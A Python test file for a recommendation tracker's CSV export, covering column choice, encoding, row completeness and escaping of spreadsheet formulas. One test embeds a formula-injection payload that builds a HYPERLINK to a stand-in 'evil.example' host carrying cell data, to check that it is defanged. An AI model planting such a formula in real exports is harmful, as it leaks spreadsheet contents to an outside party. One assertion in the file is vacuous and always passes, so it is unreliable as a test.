"""The recommendations as a table for programs."""

import csv
import io
from dataclasses import replace

import pytest

from tests.support.examples import examples
from tests.support.small_dataset import said
from tests.support.view_requests import FILES, ask, small
from tracker.publishing.exports import csv_export as export_columns
from tracker.publishing.exports.csv_export import ADDED_COLUMNS, escape_formula, render_csv
from tracker.queries.tables.frames import Frames

EXAMPLES = examples(__file__)


def rows(answer):
    """The rows as a program reads them."""
    text = answer.body.decode("utf-8-sig")
    return [tuple(row) for row in csv.reader(io.StringIO(text, newline=""))]


@pytest.fixture
def data(tmp_path):
    return small(tmp_path, *FILES)


def test_a_row_a_recommendation_with_codes_whatever_the_language(data):
    wanted = ["id,title,status,direction,document_date,assessed", "themes", "permalink"]
    head, *found = rows(render_csv(ask(data, "ru", columns=wanted)))
    assert head == tuple(",".join(wanted).split(","))
    link, title = "https://tracker.example/r/{}?lang=ru", "Расширить программу"
    assert found == [
        ("x", title, "not-implemented", "backward", "2024-02", "2025-03-04", "health; drug-policy", link.format("x")),
        ("y", "T", "not-assessed", "", "2024-03-28", "", "", link.format("y")),
    ]


def test_excel_is_told_that_it_is_utf_8_and_rows_end_as_the_standard_says(data):
    answer = render_csv(ask(data, "ru", columns=["title"]))
    assert answer.body == "\ufefftitle\r\nРасширить программу\r\nT\r\n".encode()
    assert answer.media_type == "text/csv; charset=utf-8; header=present"
    assert answer.file_name == "recommendations-2026-06-18.csv"


@pytest.mark.parametrize("hostile", ["", ",,,", "no-such", "id\x00", "title\n", "a," * 5_000])
def test_a_column_that_is_not_known_is_left_out(data, hostile):
    known = [] if hostile.strip() != "title" else ["title"]
    assert list(rows(render_csv(ask(data, columns=[hostile])))[0]) == known or list(export_columns.DEFAULT_COLUMNS)
    assert rows(render_csv(ask(data, columns=[hostile, "id,id"])))[0] == (*known, "id")


def test_every_column_has_a_cell_for_every_recommendation(data):
    everything = [column.name for column in export_columns.RECOMMENDATION_COLUMNS]
    found = rows(render_csv(ask(data, columns=everything)))
    assert [len(row) for row in found] == [len(everything)] * 3
    told = dict(zip(everything, found[1], strict=True))
    names = ("state_status", "state_date", "claim_gap", "evidence", "evidence_count", "stale", "checked")
    assert [told[name] for name in names] == ["implemented", "2025", "2", "law", "1", "yes", "2025-03-04"]


@pytest.mark.parametrize(("typed", "written"), EXAMPLES["what a spreadsheet would run is only text"])
def test_what_a_spreadsheet_would_run_is_only_text(typed, written):
    assert escape_formula(typed) == written


def test_a_title_that_is_a_formula_is_harmless_in_the_file(data):
    formula = '=HYPERLINK("http://evil.example?"&A1)'
    there = replace(data, recommendations={"x": replace(data.recommendations["x"], title=said(formula))})
    found = rows(render_csv(ask(there, columns=["title", "claim_gap", "assessed"])))
    assert found[1] == (f"'{formula}", "2", "2025-03-04")


def test_codes_are_unique_and_the_documented_columns_are_there(data):
    frames = Frames(ask(data).view, ask(data).language)
    tables = {
        export_columns.RECOMMENDATION_COLUMNS: frames.recommendations,
        export_columns.ASSESSMENT_COLUMNS: frames.assessments,
        export_columns.EVIDENCE_COLUMNS: frames.evidence,
        export_columns.DOCUMENT_COLUMNS: frames.documents,
    }
    for columns, table in tables.items():
        codes = [column.name for column in columns]
        assert sorted(codes) == sorted(set(codes))
        assert set(codes) - set(ADDED_COLUMNS) <= set(table.columns)
    assert set(export_columns.DEFAULT_COLUMNS) <= {column.name for column in export_columns.RECOMMENDATION_COLUMNS}
